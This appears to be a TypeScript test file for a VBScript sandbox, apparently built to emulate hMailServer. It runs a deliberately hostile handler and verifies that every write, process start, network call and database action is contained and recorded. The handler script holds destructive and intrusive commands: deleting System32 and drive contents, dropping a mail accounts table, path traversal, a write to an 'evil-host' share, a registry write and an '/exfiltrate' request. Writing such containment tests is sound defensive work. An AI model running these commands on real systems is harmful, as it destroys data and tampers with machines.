/**
 * The sandbox's promise, end to end: a hostile handler that writes everywhere it can name,
 * starts processes and fetches URLs leaves the real machine as it was — files appear only in
 * the run's output folder, no process starts, no connection is made — and every attempt is in
 * the record.
 */
import { test, describe, mock } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { existsSync, readdirSync, statSync } from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { newRun, runScript } from './helpers.js';

const require = createRequire(import.meta.url);
const childProcess = require('node:child_process') as Record<string, (...a: unknown[]) => unknown>;

function allFiles(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((name) => {
    const full = path.join(dir, name);
    return statSync(full).isDirectory() ? [full, ...allFiles(full)] : [full];
  });
}

describe('sandbox safety', () => {
  test('a hostile handler: nothing outside the output folder, no process, no connection; all recorded', async () => {
    let connections = 0;
    const server = http.createServer((_q, r) => r.end());
    server.on('connection', () => connections++);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const spies = ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'].map((n) => mock.method(childProcess, n, () => {
      throw new Error(`child_process.${n} called`);
    }));
    const probe = `hmailsim-probe-${process.pid}`;
    try {
      const sim = newRun({}, { fileSystem: { writableFolders: ['C:\\Program Files (x86)\\hMailServer\\Logs'] } });
      const root = path.dirname(sim.outputDir);
      const before = new Set(allFiles(root));
      const r = runScript(sim, `
        On Error Resume Next
        Set fso = CreateObject("Scripting.FileSystemObject")
        fso.CreateTextFile("C:\\Windows\\${probe}.txt").WriteLine "x"
        fso.CreateTextFile("${os.tmpdir().replace(/\\/g, '/')}/${probe}.txt").WriteLine "x"
        fso.CreateTextFile("..\\..\\..\\..\\..\\..\\${probe}.txt").WriteLine "x"
        fso.CreateTextFile("\\\\evil-host\\share\\${probe}.txt").WriteLine "x"
        fso.CreateFolder "C:\\${probe}"
        fso.DeleteFile "C:\\Windows\\System32\\*.*"
        fso.CreateTextFile("C:\\Program Files (x86)\\hMailServer\\Logs\\allowed.log").WriteLine "ok"
        Set sh = CreateObject("WScript.Shell")
        rc = sh.Run("cmd /c del /q C:\\*", 0, True)
        Set p = sh.Exec("powershell -c Invoke-WebRequest http://127.0.0.1:${port}/")
        sh.RegWrite "HKLM\\Software\\Evil", 1, "REG_DWORD"
        Set x = CreateObject("MSXML2.ServerXMLHTTP")
        x.open "GET", "http://127.0.0.1:${port}/exfiltrate", False
        x.send
        Set cn = CreateObject("ADODB.Connection")
        cn.Open "Driver={MySQL};Server=127.0.0.1;Port=${port}"
        cn.Execute "DROP TABLE hm_accounts"
        Set y = CreateObject("Some.Unknown.Object")
        If Err.Number <> 0 Then rc = rc
      `);
      assert.equal(r.error, undefined);
      await new Promise((resolve) => setTimeout(resolve, 300));

      assert.equal(connections, 0, 'no network connection');
      assert.equal(spies.reduce((n, s) => n + s.mock.callCount(), 0), 0, 'no process');
      const created = allFiles(root).filter((f) => !before.has(f));
      assert.ok(created.length > 0);
      for (const f of created) assert.ok(f === sim.outputDir || f.startsWith(sim.outputDir + path.sep), `only inside the output folder: ${f}`);
      assert.deepEqual(allFiles(path.join(sim.outputDir, 'fs')).map((f) => path.relative(sim.outputDir, f)), [
        path.join('fs', 'C'),
        path.join('fs', 'C', 'Program Files (x86)'),
        path.join('fs', 'C', 'Program Files (x86)', 'hMailServer'),
        path.join('fs', 'C', 'Program Files (x86)', 'hMailServer', 'Logs'),
        path.join('fs', 'C', 'Program Files (x86)', 'hMailServer', 'Logs', 'allowed.log'),
      ]);
      assert.ok(!existsSync(path.join(os.tmpdir(), `${probe}.txt`)));
      assert.ok(!existsSync(path.join('/', `${probe}.txt`)));

      const summary = sim.recorder.effects.map((e) => `${e.kind} ${e.allowed ? 'allowed' : 'denied'}`);
      assert.deepEqual(summary, [
        'file-write denied',
        'file-write denied',
        'file-write denied',
        'file-write denied',
        'file-write denied',
        'file-delete denied',
        'file-write allowed',
        'exec denied',
        'exec denied',
        'registry denied',
        'http denied',
        'sql allowed',
        'sql denied',
      ]);
      const open = sim.recorder.effects.find((e) => e.kind === 'sql' && e.allowed)!;
      assert.match(open.detail!, /simulated, no database contacted/);
    } finally {
      for (const s of spies) s.mock.restore();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
